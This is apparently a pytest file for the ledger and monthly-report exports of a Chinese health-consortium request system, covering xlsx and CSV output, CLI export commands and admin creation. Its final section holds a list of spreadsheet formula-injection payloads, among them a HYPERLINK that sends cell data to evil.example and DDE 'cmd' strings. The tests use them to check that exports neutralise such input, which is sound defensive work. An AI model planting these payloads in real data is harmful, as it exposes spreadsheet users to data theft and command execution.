"""Ledger and monthly-report exports: xlsx shape, csv with BOM, and the CLI commands."""
from __future__ import annotations

import csv
import io
import json
import zipfile
from datetime import datetime, timezone

from openpyxl import load_workbook
from sqlalchemy import select

from models.org import Branch
from models.report import MonthlyReport
from services.reports import bureau
from services.demo import seed as demo
from services.demo import sample_requests as demo_data
from services.reports import exports
from services.tasks import ledger
from services.org import structure as org
from services.reports import summary

NOW = datetime(2026, 12, 20, 4, 0, tzinfo=timezone.utc)


def seeded(settings, session_factory) -> int:
    with session_factory() as session:
        org.sync_org(session, settings)
        demo.seed(session, settings, now=NOW)
        cons = org.consortium_by_code(session, None)
        added = demo_data.seed_requests(session, cons.id, now=NOW, tz=settings.tz, count=40)
        branch = session.scalars(select(Branch).order_by(Branch.id)).first()
        session.add(MonthlyReport(branch_id=branch.id, period="2026-11", counts={"activities": 3, "trainings": 2},
                                  text="本月开展活动三次", late=True, filed_at=NOW, updated_at=NOW))
        session.commit()
    return added


def test_ledger_xlsx_has_chinese_headers_dates_frozen_row_and_widths(settings, session_factory, tmp_path):
    added = seeded(settings, session_factory)
    out = tmp_path / "ledger.xlsx"
    with session_factory() as session:
        rows = exports.export_ledger(session, ledger.LedgerFilter(), settings.tz, out, "xlsx")
    assert rows == added
    sheet = load_workbook(out).active
    assert [c.value for c in sheet[1]][:5] == ["编号", "提交时间", "成员单位", "反映人", "诉求内容"]
    assert sheet.freeze_panes == "A2"
    assert isinstance(sheet["B2"].value, datetime) and sheet["B2"].number_format == exports.DATE_FORMAT
    assert sheet.column_dimensions["E"].width == 48
    assert sheet.max_row == added + 1


def test_ledger_csv_is_utf8_with_bom_and_filters_by_month(settings, session_factory, tmp_path):
    seeded(settings, session_factory)
    out = tmp_path / "ledger.csv"
    with session_factory() as session:
        december = ledger.count(session, ledger.LedgerFilter(month="2026-12"), settings.tz)
        rows = exports.export_ledger(session, ledger.LedgerFilter(month="2026-12"), settings.tz, out, "csv")
    data = out.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")
    lines = data.decode("utf-8-sig").splitlines()
    assert lines[0].startswith("编号,提交时间,成员单位")
    assert rows == december == len(lines) - 1 and 0 < december < 40
    assert all(",2026-12-" in line for line in lines[1:])


def test_report_matrix_marks_filed_late_and_missing(settings, session_factory):
    seeded(settings, session_factory)
    with session_factory() as session:
        cons = org.consortium_by_code(session, None)
        matrix = exports.report_matrix(session, cons.id, 2026, today_period="2026-12")
    first = matrix[0]["cells"]
    assert first[10]["state"] == "late" and first[10]["counts"]["activities"] == 3
    assert first[9]["state"] == "missing" and first[11]["state"] == "pending"
    assert matrix[1]["missing"] == 11


def test_cli_exports_ledger_and_reports(settings, session_factory, tmp_path, monkeypatch, capsys):
    import bot
    seeded(settings, session_factory)
    monkeypatch.setenv("DATABASE_URL", settings.database_url)
    monkeypatch.setenv("TONGXIN_VAR_DIR", str(tmp_path))
    assert bot.main(["export", "ledger", "--month", "2026-12", "--out", str(tmp_path / "l.xlsx")]) == 0
    result = json.loads(capsys.readouterr().out)
    assert result["format"] == "xlsx" and result["rows"] > 0 and (tmp_path / "l.xlsx").exists()
    assert load_workbook(tmp_path / "l.xlsx").active["N1"].value == "医共体"  # every consortium: named per row
    assert bot.main(["export", "reports", "--year", "2026", "--out", str(tmp_path / "r.xlsx")]) == 0
    result = json.loads(capsys.readouterr().out)
    assert result["rows"] == 12 * sum(len(c.branches) for c in settings.consortia)
    assert result["consortia"] == ["linxi", "qinghe"]
    book = load_workbook(tmp_path / "r.xlsx")
    assert book.sheetnames == ["临溪县医共体2026年月报", "清河县医共体2026年月报"]
    assert [c.value for c in book.active[1]][:3] == ["支部", "月份", "状态"]
    assert bot.main(["export", "ledger", "--out", str(tmp_path / "l.pdf")]) != 0


def test_cli_exports_are_scoped_by_consortium(settings, session_factory, tmp_path, monkeypatch, capsys):
    import bot
    seeded(settings, session_factory)
    with session_factory() as session:
        qinghe = org.consortium_by_code(session, "qinghe")
        added = demo_data.seed_requests(session, qinghe.id, now=NOW, tz=settings.tz, count=15)
        session.commit()
    monkeypatch.setenv("DATABASE_URL", settings.database_url)
    monkeypatch.setenv("TONGXIN_VAR_DIR", str(tmp_path))
    out = tmp_path / "qinghe.csv"
    assert bot.main(["export", "ledger", "--consortium", "qinghe", "--out", str(out)]) == 0
    assert json.loads(capsys.readouterr().out) == {"out": str(out), "format": "csv", "rows": added, "month": None,
                                                   "consortium": "qinghe"}
    lines = out.read_bytes().decode("utf-8-sig").splitlines()
    assert "医共体" not in lines[0] and len(lines) == added + 1
    assert not [line for line in lines[1:] if "白沙" in line or "青山" in line]  # no 临溪 unit
    both = tmp_path / "all.csv"
    assert bot.main(["export", "ledger", "--out", str(both)]) == 0
    rows = both.read_bytes().decode("utf-8-sig").splitlines()
    assert rows[0].endswith(",医共体") and sum(r.endswith(",清河县医共体") for r in rows) == added
    assert sum(r.endswith(",临溪县医共体") for r in rows) == len(rows) - 1 - added
    assert bot.main(["export", "ledger", "--branch", "internal", "--out", str(both)]) == 0
    assert {r.rsplit(",", 1)[1] for r in both.read_bytes().decode("utf-8-sig").splitlines()[1:]} <= \
        {"临溪县医共体", "清河县医共体"}
    capsys.readouterr()
    reports = tmp_path / "r.xlsx"
    assert bot.main(["export", "reports", "--year", "2026", "--consortium", "qinghe", "--out", str(reports)]) == 0
    result = json.loads(capsys.readouterr().out)
    assert result["consortia"] == ["qinghe"] and result["rows"] == 12 * len(settings.consortium("qinghe").branches)
    assert load_workbook(reports).sheetnames == ["清河县医共体2026年月报"]
    assert bot.main(["export", "reports", "--year", "2026", "--out", str(tmp_path / "r.csv")]) == 0
    header = (tmp_path / "r.csv").read_bytes().decode("utf-8-sig").splitlines()[0]
    assert header.startswith("支部,月份,状态") and header.endswith(",医共体")
    assert bot.main(["export", "ledger", "--consortium", "nowhere", "--out", str(out)]) != 0
    assert "--consortium" in capsys.readouterr().err


def test_months_with_tasks_are_those_of_the_consortium(settings, session_factory):
    seeded(settings, session_factory)
    later = datetime(2027, 2, 10).date()
    with session_factory() as session:
        linxi, qinghe = (org.consortium_by_code(session, code) for code in ("linxi", "qinghe"))
        mine = ledger.months_with_tasks(session, settings.tz, today=later, consortium_id=linxi.id)
        theirs = ledger.months_with_tasks(session, settings.tz, today=later, consortium_id=qinghe.id)
        every = ledger.months_with_tasks(session, settings.tz, today=later)
    assert mine[0] == "2027-02" and "2026-12" in mine and "2027-01" not in mine
    assert theirs == ["2027-02"] and every == mine


def test_admin_create_reads_password_from_stdin(settings, session_factory, tmp_path, monkeypatch, capsys):
    import io

    import bot
    from services.org import accounts as admin_accounts
    monkeypatch.setenv("DATABASE_URL", settings.database_url)
    monkeypatch.setenv("TONGXIN_VAR_DIR", str(tmp_path))
    monkeypatch.setattr("sys.stdin", io.StringIO("long-enough-pw\n"))
    assert bot.main(["admin", "create", "--username", "clerk", "--role", "viewer", "--password-stdin"]) == 0
    created = json.loads(capsys.readouterr().out)
    assert (created["username"], created["role"]) == ("clerk", "viewer")
    with session_factory() as session:
        account = admin_accounts.authenticate(session, "clerk", "long-enough-pw", "127.0.0.1", now=NOW)
        assert account.role == "viewer" and "long-enough-pw" not in account.password_hash


# --- formula injection: every export writes user text as text ---------------------------------

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def hostile_task(settings, session_factory) -> None:
    """A member named like a formula files a formula-like request; the 办结说明 is one too."""
    from models.org import Person
    from services.tasks import lifecycle as tasks
    with session_factory() as session:
        org.sync_org(session, settings)
        demo.seed(session, settings, now=NOW)
        member = session.scalar(select(Person).where(Person.role == "member").order_by(Person.id))
        member.name = HOSTILE[1]
        for i, text in enumerate(HOSTILE):
            task = tasks.submit_request(session, member, text, {"branch": "internal"}, now=NOW, sandbox=True)
            task.status, task.resolved_at, task.resolution_note = "resolved", NOW, HOSTILE[(i + 2) % len(HOSTILE)]
        branch = session.scalars(select(Branch).order_by(Branch.id)).first()
        branch.name = HOSTILE[0]  # names come from config.yaml, but a writer must not care where text comes from
        session.commit()


def no_formulas(data: bytes) -> list[str]:
    """Every string cell of an xlsx; fails if any cell of any sheet is a formula."""
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        sheets = [z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
    assert sheets and not any("<f>" in s or "<f " in s for s in sheets)
    book = load_workbook(io.BytesIO(data))
    return [c.value for ws in book.worksheets for row in ws.iter_rows() for c in row
            if c.data_type == "s" and c.value is not None]


def test_ledger_xlsx_keeps_formula_like_text_as_text(settings, session_factory):
    hostile_task(settings, session_factory)
    out = io.BytesIO()
    with session_factory() as session:
        exports.export_ledger(session, ledger.LedgerFilter(), settings.tz, out, "xlsx")
    strings = no_formulas(out.getvalue())
    for text in HOSTILE:  # request text, requester name and 办结说明 kept (XML reads a CR back as LF)
        assert text.replace("\r", "\n") in strings
    sheet = load_workbook(io.BytesIO(out.getvalue())).active
    cell = next(c for row in sheet.iter_rows() for c in row if c.value == HOSTILE[0])
    assert cell.quotePrefix  # editing the cell in Excel keeps it text


def test_ledger_and_reports_csv_prefix_formula_like_values(settings, session_factory):
    hostile_task(settings, session_factory)
    with session_factory() as session:
        cons = org.consortium_by_code(session, None)
        out, rep = io.BytesIO(), io.BytesIO()
        exports.export_ledger(session, ledger.LedgerFilter(), settings.tz, out, "csv")
        exports.export_reports(session, cons.id, 2026, settings.tz, rep, "csv", today_period="2026-12")
    for data in (out.getvalue(), rep.getvalue()):
        cells = [v for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for v in row]
        assert not [v for v in cells if v[:1] in ("=", "+", "-", "@", "\t", "\r")]
        assert "'" + HOSTILE[0] in cells
    ledger_cells = {v for row in csv.reader(io.StringIO(out.getvalue().decode("utf-8-sig"))) for v in row}
    assert {"'" + t for t in HOSTILE} <= ledger_cells


def test_reports_summary_and_bureau_workbooks_hold_no_formula(settings, session_factory):
    hostile_task(settings, session_factory)
    with session_factory() as session:
        cons = org.consortium_by_code(session, None)
        books = [io.BytesIO() for _ in range(3)]
        exports.export_reports(session, cons.id, 2026, settings.tz, books[0], "xlsx", today_period="2026-12")
        summary.export_summary(session, [cons], 2026, books[1], tz=settings.tz, today=NOW.date())
        bureau.export_workbook(session, books[2], year=2026, period="2026-12", tz=settings.tz, today=NOW.date())
    for book in books:
        assert HOSTILE[0] in no_formulas(book.getvalue())
